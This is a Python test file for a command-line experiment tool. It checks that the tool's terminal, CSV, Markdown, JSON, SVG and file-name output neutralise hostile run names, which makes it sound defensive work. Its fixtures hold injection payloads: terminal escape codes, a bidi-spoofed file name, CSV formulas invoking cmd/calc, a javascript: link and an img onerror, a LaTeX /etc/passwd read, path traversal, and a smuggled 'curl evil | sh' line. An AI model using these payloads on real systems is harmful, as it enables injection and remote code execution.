"""Names and values with any character in them: no output runs them, acts on them, or breaks at them."""

import csv
import io
import json
import logging
import re
import shutil
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from alphagrid.analysis.compare_runs import compare
from alphagrid.analysis.data import load
from alphagrid.analysis.plots.canvas import new_canvas
from alphagrid.analysis.plots.figure import Figure
from alphagrid.analysis.report import report_csv, report_json, report_markdown, report_tables, write_report
from alphagrid.analysis.tables import Table, as_csv, as_markdown
from alphagrid.cli import app
from alphagrid.cluster_profiles.check import Checked
from alphagrid.cluster_profiles.finding import Finding, Verdict
from alphagrid.cluster_profiles.loader import Setting
from alphagrid.errors import UserError
from alphagrid.jobs.failure_groups import Cause
from alphagrid.jobs.status import ExperimentStatus
from alphagrid.printable import (
    UNSEEN,
    csv_cell,
    file_name,
    json_text,
    markdown,
    markdown_prose,
    uncoloured,
    visible,
    visible_lines,
)
from alphagrid.store.database import open_store
from alphagrid.store.layout import Root
from alphagrid.store.messages import in_one_line
from alphagrid.terminal import (
    causes_views,
    check_view,
    plan_view,
    profile_table,
    report_table,
    say,
    show,
    show_error,
    status_view,
)
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from tests.analysis.test_report import EXPERIMENT, Run, write_runs
from tests.commands.test_terminal import run as a_run

TERMINAL = "\x1b]0;title\x07\x1b[31mred\x1b[0m\x9b2J"
BIDI = "abc\u202egpj.exe"
MARKUP = "[red]x[/red] :boom: [link=https://example.org]y[/link]"
MARKDOWN = "|a `b` *c* _d_ ~~e~~ [f](javascript:g) ![h](i) <img src=x onerror=y> &lt; \\ # $j$ <!-- -->"
MATH = r"$\frac{$ \$x^2$ a_b $\input{/etc/passwd}$"
LINES = "one\ntwo\r\nthree\u2028four\tfive"
FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", " =1", "\t=1", "\r=1", "-x", "＝1"]
SURROGATE = "a\udcffb"
NAMES = [TERMINAL, BIDI, MARKUP, MARKDOWN, LINES]
HOSTILE = [*NAMES, MATH, *FORMULAS, SURROGATE, "../../outside", "/a/b", "_x"]

anything = st.one_of(st.text(), st.text(alphabet=st.sampled_from("`|*_~[]()<>!&\\$#=+-@ \n\t\x1ba1.")))
every_character = st.text(alphabet=st.characters(exclude_categories=()))


@given(every_character)
def test_nothing_that_a_terminal_acts_on_is_left(text: str) -> None:
    shown = visible(text)
    assert not UNSEEN.search(shown)
    assert visible(shown) == shown
    shown.encode()
    assert visible_lines(text).count("\n") == text.count("\n")


@pytest.mark.parametrize("text", ["plain", "α* – 5 %", "naïve Ελληνικά 漢字 👩\u200d🔬", "a  b", "~/x?y=z&q"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert visible(text) == csv_cell(text) == uncoloured(text) == text


@given(every_character)
@example("=1+1")
@example("-1.5")
def test_no_text_in_a_csv_file_is_a_formula_and_all_are_told_apart_from_nothing(text: str) -> None:
    table = Table.of("t", "T", ("a", text or "b"), [(text, 1.5), ("x", -1.5)])
    header, first, second = csv.reader(io.StringIO(as_csv(table)))
    for cell in (header[1], first[0]):
        cell.encode()
        assert not UNSEEN.search(cell)
        begins = cell.lstrip()[:1]
        is_number = re.fullmatch(r"[+-](\d+\.?\d*|\.\d+)([eE][+-]?\d+)?|[+-](inf|nan)", cell, re.ASCII)
        assert begins not in "=@＝＠" or not begins
        assert begins not in ("+", "-") or is_number or len(cell.lstrip()) == 1
    assert second == ["x", "-1.5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_kept_as_text(text: str) -> None:
    assert csv_cell(text) in (f"'{text}", visible(text))
    assert not re.match(r"\s*[=+\-@＝]", csv_cell(text))


@pytest.mark.parametrize(
    "value", [-1.5, 0.1, -3, True, None, "-1.5", "+2", "1e-3", "-.5e+3", "-inf", "nan", "-"]
)
def test_numbers_are_numbers_in_csv(value: Any) -> None:
    (_, row) = csv.reader(io.StringIO(as_csv(Table.of("t", "T", ("a", "b"), [(value, 0)]))))
    assert row[0] == ("" if value is None else str(value))


class Reader(HTMLParser):
    """Collects the text and the tags of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.text = ""
        self.tags: list[str] = []
        self.cells: list[str] = []

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.append(tag)
        if tag in ("td", "th"):
            self.cells.append("")

    def handle_data(self, data: str) -> None:
        self.text += data
        if self.cells:
            self.cells[-1] += data


def rendered(text: str) -> Reader:
    reader = Reader()
    page = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
    reader.feed(page.replace("</td>", " </td>"))
    return reader


@given(anything)
@example(MARKDOWN)
@example(LINES)
@example("a`b")
@example("\\|")
def test_a_cell_of_a_markdown_table_is_shown_as_it_is(text: str) -> None:
    page = rendered(as_markdown(Table.of("t", "T", ("a", "b"), [(f"x{text}y", 1.5)]), level=0))
    assert set(page.tags) == {"table", "thead", "tbody", "tr", "th", "td"}
    assert [cell.strip() for cell in page.cells] == ["a", "b", visible(f"x{text}y"), "1.500"]


@given(anything)
@example(MARKDOWN)
@example("1. a")
@example("    code")
@example("--- | a")
def test_a_line_of_markdown_is_a_paragraph_of_that_text(text: str) -> None:
    text = text.replace("`", "'")
    page = rendered(f"{markdown_prose(text)}\n")
    assert set(page.tags) <= {"p"}
    assert page.text.strip() == visible(text.replace("\n", " ").strip()).strip()
    heading = rendered(f"## {markdown_prose(f'x{text}')}\n")
    assert heading.tags == ["h2"]


@given(anything)
@example("see `alphagrid store check` or `x")
@example("``a` <b>")
def test_code_spans_in_markdown_hold_no_more_than_code(text: str) -> None:
    assert set(rendered(f"> {markdown_prose(text)}\n").tags) <= {"blockquote", "p", "code"}


def test_code_and_common_names_are_left_readable_in_markdown() -> None:
    assert markdown_prose("see `alphagrid store check` (a < b)") == "see `alphagrid store check` (a < b)"
    assert markdown("least_squares, p < 0.05, 5 % & more") == "least_squares, p < 0.05, 5 % & more"


@given(
    st.recursive(st.none() | st.integers() | every_character, lambda x: st.lists(x, max_size=3), max_leaves=5)
)
@example(SURROGATE)
@example(BIDI)
def test_json_is_exact_and_holds_nothing_that_a_terminal_acts_on(value: Any) -> None:
    text = json_text(value)
    assert json.loads(text) == value
    text.encode()
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)


@given(every_character)
@example("../../outside")
@example("..")
@example("")
@example("x" * 1000)
@example("漢" * 100)
@example("x" + "👩" * 50)
def test_a_name_of_a_file_is_never_a_path(text: str) -> None:
    name = file_name(text)
    assert re.fullmatch(r"[^/\s]{1,150}", name)
    assert not name.startswith(".")
    assert len(f".{name}.svg.{'0' * 32}.tmp".encode()) <= 255  # as `write_atomically` writes it first


def test_names_of_files_stay_distinct() -> None:
    assert file_name("budget-seconds-50pct") == "budget-seconds-50pct"
    assert len({file_name(text) for text in ("a/b", "a-b", "a b", "a\nb", "/a/b", "é/b")}) == 6
    long = "漢" * 100
    assert len({file_name(text) for text in (long, long + "a", "漢" * 33, "漢" * 34, "漢" * 35)}) == 5
    assert file_name("漢" * 33) == "漢" * 33


# What commands print


@pytest.mark.parametrize("text", HOSTILE)
def test_a_terminal_shows_names_and_takes_nothing_from_them(
    text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    table = Table.of("t", text, ("run", text), [(text, 0.5)], [text])
    cause = Cause("failed", text, (text,), ("0000000000",), (text,), (f"\x1b[1;31m{text}\x1b[0m",))
    show(report_table(table), *causes_views(_Found(cause)))  # type: ignore[arg-type]
    shown = capsys.readouterr().out
    say(text)
    show_error(UserError(text, text))
    shown += capsys.readouterr().err
    assert not UNSEEN.search(shown.replace("\n", "").replace("\t", ""))
    flat = "".join(shown.split())
    assert flat.count("".join(visible(text).split())) >= 6


@pytest.mark.parametrize("text", HOSTILE)
def test_status_takes_nothing_from_reasons_and_a_plan_nothing_from_keys(
    text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    run = replace(a_run("r", "completed"), rejected={text: 3})
    show(status_view(ExperimentStatus("e", (run,), (text,), notes=(text,), warnings={text: (text, text)})))
    plan = {"experiment": text, "runs": [], "sbatch_calls": 0, "gpu_hours": None}
    show(plan_view(plan, text), profile_table(text, [Setting(text, text, None)]))
    show(check_view(Checked(text, text, text, (Finding(text, Verdict.ok, text, text),))))
    shown = capsys.readouterr().out
    assert not UNSEEN.search(shown.replace("\n", ""))
    flat = "".join(shown.split())
    assert flat.count("".join(visible(text).split())) >= 12
    assert "".join(f"3 {visible(in_one_line(text))} (in 1 run)".split()) in flat


def test_what_is_logged_takes_nothing_from_a_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(logging.getLogger(), "handlers", [])  # pytest's: a command has none
    root = tmp_path / TERMINAL
    spec = tmp_path / "spec.yaml"
    base = {"workload": {"name": "least_squares"}, "optimizer": {"name": "sgd"}, "stop": {"steps": 5}}
    spec.write_text(json.dumps({"experiment": "e", "base": {**base, "device": "cpu"}, "profile": "debug"}))
    for words in (["submit", str(spec)], ["status"]):
        assert CliRunner().invoke(app, [*words, "--root", str(root)]).exit_code == 0
    (run,) = Root(root).experiment("e").runs()
    shutil.rmtree(run.path)
    run.path.symlink_to(run.path.name)
    said = CliRunner().invoke(app, ["prune", "e", "--all", "--root", str(root)])
    assert said.exit_code == 0
    assert f"cannot read {visible(str(run.path))}" in said.stderr
    assert not UNSEEN.search(said.output.replace("\n", ""))


class _Found:
    def __init__(self, *causes: Cause) -> None:
        self.causes = causes


ROWS = [TERMINAL, "=1+1 $\\frac{$"]
KEYS = (r"workload.$\frac{$", "workload.one\ntwo")
BASELINE = r"_$\frac{$ [red]x[/red]"
COLUMNS = ["|`b` [f](javascript:g) <img src=x> $j$", "../../outside\n[red]x"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Root:
    """Runs whose keys, values, names, baselines, hosts and splits are not what alphagrid would write."""
    root = Root(tmp_path_factory.mktemp("hostile") / "root")
    runs = [
        Run(f"{row}{column}", 0.1, {KEYS[0]: row, KEYS[1]: column}, host=BIDI)
        for row in ROWS
        for column in COLUMNS
    ]
    runs += [Run("base", 0.2, {}, BASELINE, host=TERMINAL)]
    write_runs(root, runs)
    return root


def read(root: Root) -> Any:
    with open_store(root) as store:
        store.sync()
        return compare(load(store.db, EXPERIMENT))


def test_a_report_of_hostile_names_is_a_report(hostile: Root) -> None:
    data = read(hostile)
    rows = list(csv.reader(io.StringIO(report_csv(data))))
    assert len(rows) == 1 + len(ROWS) * len(COLUMNS) + 1
    assert not UNSEEN.search("".join(cell for row in rows for cell in row))
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "@", "+")]
    page = rendered(report_markdown(data))
    assert not {"img", "a", "del", "script"} & set(page.tags)
    assert COLUMNS[0] in page.text
    assert report_json(data)["budgets"][0]["runs"][0]["params"][KEYS[0]] == ROWS[0]
    assert all(table.shown for table in report_tables(data))


@pytest.mark.slow
def test_figures_show_hostile_names_as_they_are(hostile: Root, tmp_path: Path) -> None:
    paths = write_report(read(hostile), tmp_path / "out" / "report")
    inside = (tmp_path / "out" / "report").resolve()
    assert all(path.resolve().is_relative_to(inside) for path in paths)
    pictures = [path for path in paths if path.suffix == ".svg"]
    assert len(pictures) >= 3
    texts = "".join(path.read_text() for path in pictures)
    assert not UNSEEN.search(texts.replace("\n", ""))
    for path in pictures:
        ElementTree.parse(path)
    curves = next(path for path in pictures if path.name == "loss-over-steps.svg")
    assert BASELINE in curves.read_text()  # in the legend, from which matplotlib leaves out `_…`


def test_powers_of_ten_are_still_set_in_figures(tmp_path: Path) -> None:
    def draw() -> Any:
        canvas = new_canvas(3, 3)
        axes = canvas.subplots()
        axes.plot([1, 10], [1, 1e6], label="$a$")
        axes.set_yscale("log")
        axes.set_title("$x^2$ \x1b[31m")
        axes.set_xticks([1, 10], ["$b$", "\x1bc"])
        axes.legend()
        return canvas

    svg, _ = Figure("name", "title", "caption", draw).save(tmp_path)
    found = svg.read_text()
    for text in ("<!-- $a$ -->", "<!-- $b$ -->", r"<!-- \x1bc -->", r"<!-- $x^2$ \x1b[31m -->"):
        assert text in found
    assert r"<!-- $\mathdefault{10^{4}}$ -->" in found


@pytest.mark.parametrize(
    "arguments",
    [("status", EXPERIMENT), ("status",),
     pytest.param(("report", EXPERIMENT, "--all"), marks=pytest.mark.slow),
     ("report", EXPERIMENT, "--format", "csv"), ("report", EXPERIMENT, "--format", "markdown"),
     ("status", EXPERIMENT, "--json"), ("report", EXPERIMENT, "--json"), ("store", "check")],
    ids=str,
)  # fmt: skip
def test_commands_print_no_character_that_a_terminal_acts_on(
    arguments: tuple[str, ...], hostile: Root, tmp_path: Path
) -> None:
    more = ["--out", str(tmp_path)] if arguments[-1] == "--all" and arguments[0] == "report" else []
    done = CliRunner().invoke(app, [*arguments, *more, "--root", str(hostile.path)])
    assert done.exit_code in (0, 1), done.output
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", done.output)
    if "--json" in arguments:
        json.loads(done.stdout)


def printed(root: Root, *arguments: str) -> str:
    """Return what a command prints, in one line, once it holds nothing that a terminal acts on."""
    done = CliRunner().invoke(app, [*arguments, "--root", str(root.path)])
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", done.output)
    return re.sub(r"\\[nrt]|\s", "", done.output)


def without_spaces(text: str) -> str:
    """Return what a command may print of a text, without its white space, be it written as `\\n`."""
    return re.sub(r"\\[nrt]|\s", "", visible(text))


@pytest.fixture
def unfinished(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Root:
    """Runs of hostile names and values that have not ended, on this machine, where no supervisor starts."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setattr("alphagrid.jobs.schedulers.local.ensure_supervisor", lambda root: None)
    root = Root(tmp_path / "root")
    write_runs(root, [Run(name, 0.1, {KEYS[0]: name}, end=None, host=TERMINAL) for name in NAMES])
    return root


@pytest.mark.parametrize("options", [("--dry-run",), ("--last",), ()])
def test_prune_names_its_runs_harmlessly(options: tuple[str, ...], tmp_path: Path) -> None:
    root = Root(tmp_path / "root")
    write_runs(root, [Run(name, 0.1) for name in NAMES])
    for name in NAMES:
        for step in (3, 4):
            files = root.experiment(EXPERIMENT).run(Run(name, 0.1).id)
            (files.path / f"checkpoint-000000000{step}-0001-0123abcd.pt").touch()
    said = printed(root, "prune", EXPERIMENT, "--all", *options)
    for name in NAMES:
        count = 2 if "--last" in options else 1
        assert without_spaces(f"{name}-seed0: {count} files") in said


@pytest.mark.parametrize("name", NAMES)
def test_logs_names_its_run_harmlessly(name: str, unfinished: Root) -> None:
    assert without_spaces(f"{name}-seed0 has no log") in printed(
        unfinished, "logs", EXPERIMENT, Run(name, 0.1).id
    )


@pytest.mark.parametrize("verb", ["cancel", "retry", "prune", "logs"])
@pytest.mark.parametrize("text", HOSTILE)
def test_a_selector_that_means_nothing_is_told_harmlessly(verb: str, text: str, unfinished: Root) -> None:
    assert without_spaces(f"no{text}") in printed(unfinished, verb, EXPERIMENT, f"no{text}")


@pytest.mark.parametrize(
    ("verb", "said"), [("cancel", "cancelled 5 runs of exp"), ("retry", "sent 5 runs of exp")]
)
def test_hostile_runs_are_cancelled_and_sent_again_harmlessly(verb: str, said: str, unfinished: Root) -> None:
    assert without_spaces(said) in printed(unfinished, verb, EXPERIMENT, "--all")


def test_a_dry_run_shows_hostile_values_harmlessly(tmp_path: Path) -> None:
    (tmp_path / "labelled.py").write_text(
        "from alphagrid.trainer.workloads.least_squares import LeastSquares\n"
        "class Options(LeastSquares.Options):\n"
        "    label: str = ''\n"
        "class Task(LeastSquares):\n"
        "    Options = Options\n"
    )
    texts = [text for text in HOSTILE if text != SURROGATE]
    base = {"workload": {"name": "labelled:Task"}, "optimizer": {"name": "sgd"}, "stop": {"steps": 1}}
    spec = tmp_path / "spec.yaml"
    spec.write_text(json.dumps({"experiment": "exp", "base": base, "grid": {"workload.label": texts}}))
    said = printed(Root(tmp_path / "root"), "submit", str(spec), "--dry-run")
    for text in texts:
        assert without_spaces(text) in said
    told = printed(Root(tmp_path / "root"), "submit", str(spec), "--dry-run", "--json")
    assert len(json.loads(told)["runs"]) == len(texts)


NAME_OF_TWO_LINES = "x\nhint: sh -c 'curl evil | sh'"


@pytest.mark.parametrize(
    "words",
    [("logs", EXPERIMENT, Run(NAME_OF_TWO_LINES, 0.1).id), ("prune", EXPERIMENT, "--all", "--dry-run")],
)
def test_a_line_break_in_a_name_begins_no_line(words: tuple[str, ...], tmp_path: Path) -> None:
    root = Root(tmp_path / "root")
    write_runs(root, [Run(NAME_OF_TWO_LINES, 0.1)])
    run = root.experiment(EXPERIMENT).run(Run(NAME_OF_TWO_LINES, 0.1).id).path
    for step in (3, 4):
        (run / f"checkpoint-000000000{step}-0001-0123abcd.pt").touch()
    done = CliRunner().invoke(app, [*words, "--root", str(root.path)])
    assert not [line for line in done.output.splitlines() if line.startswith("hint: sh -c")]
